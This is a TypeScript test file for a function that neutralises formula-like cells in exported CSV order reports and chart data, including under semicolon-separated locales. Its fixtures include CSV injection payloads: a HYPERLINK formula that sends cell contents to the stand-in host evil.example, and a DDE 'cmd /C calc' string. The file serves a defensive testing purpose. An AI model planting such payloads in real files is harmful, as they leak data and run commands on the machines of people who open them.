// The order report is saved with formula-like cells written as text: a value the service
// echoes (an order name) must not run as a spreadsheet formula when the file is opened.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { seriesCsv } from '../../../src/commands/imagery/seriesCsv';
import { isFormulaLike, neutraliseCsv } from '../../../src/csvCells';
import type { SeriesRequest } from '../../../src/panels/imagery/seriesMessages';

const rows = (text: string): string[][] => parse(text, { relax_column_count: true }) as string[][];

test('cells that begin with = + - @ (or a tab or CR) become text; numbers and other cells are kept byte for byte', () => {
  const text = [
    'order_id,name,amount,note',
    'o1,=HYPERLINK("http://evil.example/?"&A1;"x"),-12.5,plain',
    'o2,"+cmd|\' /C calc\'!A0",+3,"@SUM(1+1)"',
    'o3,"-2+3",1e3,"line one\r\n=two"',
    'o4,\tstart,-.5,""',
    '',
  ].join('\r\n');
  const out = neutraliseCsv(text);
  assert.equal(out.neutralised, 6);
  assert.deepEqual(rows(out.text), [
    ['order_id', 'name', 'amount', 'note'],
    ['o1', '\'=HYPERLINK("http://evil.example/?"&A1;"x")', '-12.5', 'plain'],
    ['o2', "'+cmd|' /C calc'!A0", '+3', "'@SUM(1+1)"],
    ['o3', "'-2+3", '1e3', "line one\r\n'=two"],
    ['o4', "'\tstart", '-.5', ''],
  ]);
  // a report with nothing to neutralise is written exactly as the service sent it
  const clean = 'a,b\n1,"x, y"\n2,-3\n';
  assert.deepEqual(neutraliseCsv(clean), { text: clean, neutralised: 0 });
});

test('what counts as a formula', () => {
  for (const v of ['=1', '+A1', '-A1', '@x', '\t=1', '-', '+-1x']) assert.ok(isFormulaLike(v), v);
  for (const v of ['-1', '+2.5', '-3e-4', '.5', 'a=b', '', ' =1']) assert.ok(!isFormulaLike(v), v);
});

/**
 * The file as a spreadsheet opens it where the list separator is `;`: lines split on `;`, a
 * quote counts only at the start of a cell (one in the middle is a character), so a line
 * break inside a quoted cell that does not start one ends the row.
 */
function semicolonCells(text: string): string[] {
  return parse(text, { delimiter: ';', relax_quotes: true, relax_column_count: true, skip_empty_lines: true }).flat() as string[];
}

/** Cells of either reading a spreadsheet would run. */
function formulas(text: string): string[] {
  return [...rows(text).flat(), ...semicolonCells(text)].filter(isFormulaLike);
}

const HOSTILE = ["Lake;-2+3+cmd|' /C calc'!A0", 'Lake;=HYPERLINK("http://evil.example")', 'Fields; @SUM(1)', 'a;"=1+1"', 'x;\t=1', 'two\n+lines', 'ok;-2'];

test('in a `;` locale no part of a cell becomes a formula: the order report', () => {
  // as a service might send it: the name always quoted, the tag only where CSV needs it
  const q = (v: string): string => `"${v.replace(/"/g, '""')}"`;
  const text = ['order_id,name,tag', ...HOSTILE.map((v, i) => `o${i},${q(v)},${/[",\n]/.test(v) ? q(v) : v}`), ''].join('\r\n');
  assert.notDeepEqual(formulas(text), [], 'the report as sent has formula cells in a `;` locale');
  const safe = neutraliseCsv(text).text;
  assert.deepEqual(formulas(safe), []);
  // the comma reading keeps every value, each part marked as text where it began like a formula
  assert.deepEqual(
    rows(safe)
      .slice(1)
      .map((r) => r[1]),
    ["Lake;'-2+3+cmd|' /C calc'!A0", 'Lake;\'=HYPERLINK("http://evil.example")', 'Fields; @SUM(1)', 'a;\'"=1+1"', "x;'\t=1", "two\n'+lines", "ok;'-2"],
  );
});

test('in a `;` locale no part of a cell becomes a formula: the chart CSV', () => {
  const series = (title: string): SeriesRequest => ({
    title,
    index: { name: 'NDVI;=1+1', expression: '(B08-B04)/(B08+B04)' },
    polygon: {},
    dates: [{ date: '2025-06-01', spec: {} as never, source: 'asset;-cmd' }],
  });
  const csv = seriesCsv(HOSTILE.map((t) => ({ request: series(t), points: [undefined] })));
  assert.deepEqual(formulas(csv), []);
  assert.equal(rows(csv)[1][1], "Lake;'-2+3+cmd|' /C calc'!A0");
});
